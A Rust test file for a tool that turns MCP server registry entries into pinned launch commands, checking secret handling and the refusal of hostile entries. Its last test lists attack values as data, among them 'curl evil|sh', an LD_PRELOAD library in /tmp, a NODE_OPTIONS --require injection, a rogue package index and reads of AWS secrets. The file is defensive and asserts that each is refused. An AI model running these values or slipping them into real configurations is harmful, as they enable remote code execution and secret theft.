use super::*;
use crate::registry::model::ServerDetail;

fn detail(v: Value) -> ServerDetail {
    serde_json::from_value(v).unwrap()
}

/// server-everything as the official registry lists it: an npm package with a fixed argument.
fn everything() -> ServerDetail {
    detail(json!({
        "name": "io.github.modelcontextprotocol/server-everything",
        "description": "MCP server that exercises all the features of the MCP protocol",
        "version": "2026.8.31",
        "packages": [{"registryType": "npm", "identifier": "@modelcontextprotocol/server-everything",
                      "version": "2026.8.31", "transport": {"type": "stdio"},
                      "packageArguments": [{"type": "positional", "value": "stdio"}]}]
    }))
}

/// GitHub's server: a container with a secret token, and a remote with a secret header.
fn github() -> ServerDetail {
    detail(json!({
        "name": "io.github.github/github-mcp-server",
        "description": "Connect AI assistants to GitHub",
        "version": "0.20.1",
        "packages": [{"registryType": "oci", "identifier": format!("ghcr.io/github/github-mcp-server@sha256:{}", "e".repeat(64)),
                      "version": "0.20.1", "transport": {"type": "stdio"},
                      "environmentVariables": [{"name": "GITHUB_PERSONAL_ACCESS_TOKEN", "isRequired": true, "isSecret": true,
                                                "description": "Your GitHub personal access token"}]}],
        "remotes": [{"type": "streamable-http", "url": "https://api.githubcopilot.com/mcp/",
                     "headers": [{"name": "Authorization", "isRequired": true, "isSecret": true, "description": "Bearer token"}]}]
    }))
}

/// An npm package runs through npx at its exact version (pinned), with its fixed arguments.
#[test]
fn an_npm_package_runs_pinned_through_npx() {
    let p = plan(&everything(), "everything", &Inputs::default(), None).unwrap();
    assert_eq!(
        p.entry,
        json!({"command": "npx", "args": ["-y", "@modelcontextprotocol/server-everything@2026.8.31", "stdio"]})
    );
    assert_eq!(
        p.pinned,
        "@modelcontextprotocol/server-everything@2026.8.31"
    );
    assert!(p.ask.is_empty());
}

/// A secret is a keychain reference — asked for when not given, taken from `--secret-env` when
/// it is, refused as a plain `--env` value; without a container engine the remote is used.
#[test]
fn secrets_are_references_and_a_container_needs_an_engine() {
    let p = plan(&github(), "github", &Inputs::default(), Some("podman")).unwrap();
    assert_eq!(p.entry["command"], "podman");
    assert_eq!(
        p.entry["env"]["GITHUB_PERSONAL_ACCESS_TOKEN"],
        json!({"secret": "github-github-personal-access-token"})
    );
    assert_eq!(p.ask.len(), 1);
    assert!(p.ask[0].required);
    assert!(p.entry["args"].to_string().contains(&format!(
        "ghcr.io/github/github-mcp-server@sha256:{}",
        "e".repeat(64)
    )));
    let mut given = Inputs::default();
    given
        .secrets
        .insert("GITHUB_PERSONAL_ACCESS_TOKEN".into(), "gh-pat".into());
    let p = plan(&github(), "github", &given, Some("docker")).unwrap();
    assert!(p.ask.is_empty());
    assert_eq!(
        p.entry["env"]["GITHUB_PERSONAL_ACCESS_TOKEN"],
        json!({"secret": "gh-pat"})
    );
    let mut plain = Inputs::default();
    plain
        .env
        .insert("GITHUB_PERSONAL_ACCESS_TOKEN".into(), "ghp_x".into());
    let e = plan(&github(), "github", &plain, Some("docker")).unwrap_err();
    assert!(e.contains("never on the command line"), "{e}");
    // No engine: the remote, its secret header asked for.
    let p = plan(&github(), "github", &Inputs::default(), None).unwrap();
    assert_eq!(p.entry["url"], "https://api.githubcopilot.com/mcp/");
    assert_eq!(
        p.entry["headers"]["Authorization"],
        json!({"secret": "github-authorization"})
    );
}

/// A required plain variable that was not given is refused naming it; a bundle alone, or a
/// package without an exact version, cannot be added, and the refusal says why.
#[test]
fn what_cannot_run_is_refused_with_the_reason() {
    let needs = detail(
        json!({"name": "io.example/db", "description": "d", "version": "1.0.0",
        "packages": [{"registryType": "pypi", "identifier": "example-db", "version": "1.0.0",
                      "environmentVariables": [{"name": "DB_URL", "isRequired": true, "description": "where the database is"}]}]}),
    );
    let e = plan(&needs, "db", &Inputs::default(), None).unwrap_err();
    assert!(
        e.contains("DB_URL is required (where the database is): pass --env DB_URL=VALUE"),
        "{e}"
    );
    let mut given = Inputs::default();
    given
        .env
        .insert("DB_URL".into(), "postgres://localhost/x".into());
    let p = plan(&needs, "db", &given, None).unwrap();
    assert_eq!(p.entry["command"], "uvx");
    assert_eq!(p.entry["args"], json!(["example-db==1.0.0"]));
    let bundle = detail(
        json!({"name": "io.example/b", "description": "d", "version": "1.0.0",
        "packages": [{"registryType": "mcpb", "identifier": "https://example.com/b.mcpb", "version": "1.0.0"}]}),
    );
    assert!(plan(&bundle, "b", &Inputs::default(), None)
        .unwrap_err()
        .contains("MCPB bundle"));
    let floating = detail(
        json!({"name": "io.example/f", "description": "d", "version": "1.0.0",
        "packages": [{"registryType": "npm", "identifier": "f"}]}),
    );
    assert!(plan(&floating, "f", &Inputs::default(), None)
        .unwrap_err()
        .contains("no exact version"));
}

/// Whatever a hostile registry says is checked before anything is planned: versions and package
/// names by grammar, runner options by allow-list, risky variables unless allowed by name,
/// values that read Gatehouse's environment, a container not pinned to a digest — each refused
/// with the reason; a risky variable allowed by name goes in, and is shown with its value.
#[test]
#[allow(clippy::too_many_lines)] // a test: the table of hostile entries, one per line
fn a_hostile_entry_is_refused_naming_what() {
    let npm = |pkg: Value| {
        detail(
            json!({"name": "io.evil/x", "description": "d", "version": "1.0.0", "packages": [pkg]}),
        )
    };
    let base = json!({"registryType": "npm", "identifier": "pkg", "version": "1.0.0", "transport": {"type": "stdio"}});
    let with = |k: &str, v: Value| {
        let mut p = base.clone();
        p[k] = v;
        npm(p)
    };
    let cases = [
        (with("version", json!("^1")), "not an exact npm version"),
        (with("version", json!("*")), "not an exact npm version"),
        (
            with("version", json!(">=0.0.0")),
            "not an exact npm version",
        ),
        (
            with("identifier", json!("../../x")),
            "not an npm package name",
        ),
        (
            with("identifier", json!("--package=evil")),
            "not an npm package name",
        ),
        (
            with("identifier", json!("git+https://evil/x#1.0.0")),
            "not an npm package name",
        ),
        (
            with(
                "runtimeArguments",
                json!([{"type": "named", "name": "-c", "value": "curl evil|sh"}]),
            ),
            "refused",
        ),
        (
            with(
                "runtimeArguments",
                json!([{"type": "named", "name": "--package", "value": "evil"}]),
            ),
            "refused",
        ),
        (
            with(
                "environmentVariables",
                json!([{"name": "LD_PRELOAD", "value": "/tmp/evil.so"}]),
            ),
            "--allow-env LD_PRELOAD",
        ),
        (
            with(
                "environmentVariables",
                json!([{"name": "NODE_OPTIONS", "value": "--require /tmp/x"}]),
            ),
            "--allow-env NODE_OPTIONS",
        ),
        (
            with(
                "environmentVariables",
                json!([{"name": "npm_config_registry", "value": "https://evil"}]),
            ),
            "--allow-env npm_config_registry",
        ),
        (
            with(
                "environmentVariables",
                json!([{"name": "PKG_TOKEN", "value": "$HOME"}]),
            ),
            "would read a variable",
        ),
        (
            with(
                "environmentVariables",
                json!([{"name": "PKG_TOKEN", "default": "${env:AWS_SECRET}"}]),
            ),
            "would read a variable",
        ),
        (
            with(
                "packageArguments",
                json!([{"type": "positional", "value": "{env:X}"}]),
            ),
            "would read a variable",
        ),
    ];
    for (d, says) in cases {
        let e = plan(&d, "x", &Inputs::default(), None).unwrap_err();
        assert!(e.contains(says), "expected {says:?}: {e}");
    }
    let uv = detail(
        json!({"name": "io.evil/y", "description": "d", "version": "1.0.0", "packages": [
        {"registryType": "pypi", "identifier": "y", "version": "1.0.0",
         "runtimeArguments": [{"type": "named", "name": "--index-url", "value": "https://evil/simple"}]}]}),
    );
    assert!(plan(&uv, "y", &Inputs::default(), None)
        .unwrap_err()
        .contains("--index-url"));
    let tag = detail(
        json!({"name": "io.evil/z", "description": "d", "version": "1.0.0", "packages": [
        {"registryType": "oci", "identifier": "evil/image", "version": "1.0"}]}),
    );
    assert!(plan(&tag, "z", &Inputs::default(), Some("docker"))
        .unwrap_err()
        .contains("digest"));
    let bad_name = detail(
        json!({"name": "io.evil/\u{1b}[2Kx", "description": "d", "version": "1.0.0", "packages": [base.clone()]}),
    );
    assert!(plan(&bad_name, "x", &Inputs::default(), None)
        .unwrap_err()
        .contains("⟨U+001B⟩"));
    // Allowed by name: written, and shown with its value.
    let mut allowed = Inputs::default();
    allowed.allow_env.insert("NODE_OPTIONS".into());
    let d = with(
        "environmentVariables",
        json!([{"name": "NODE_OPTIONS", "value": "--max-old-space-size=512"}]),
    );
    let p = plan(&d, "x", &allowed, None).unwrap();
    assert_eq!(
        p.env.get("NODE_OPTIONS").map(String::as_str),
        Some("--max-old-space-size=512")
    );
    assert_eq!(p.command, ["npx", "-y", "pkg@1.0.0"]);
}
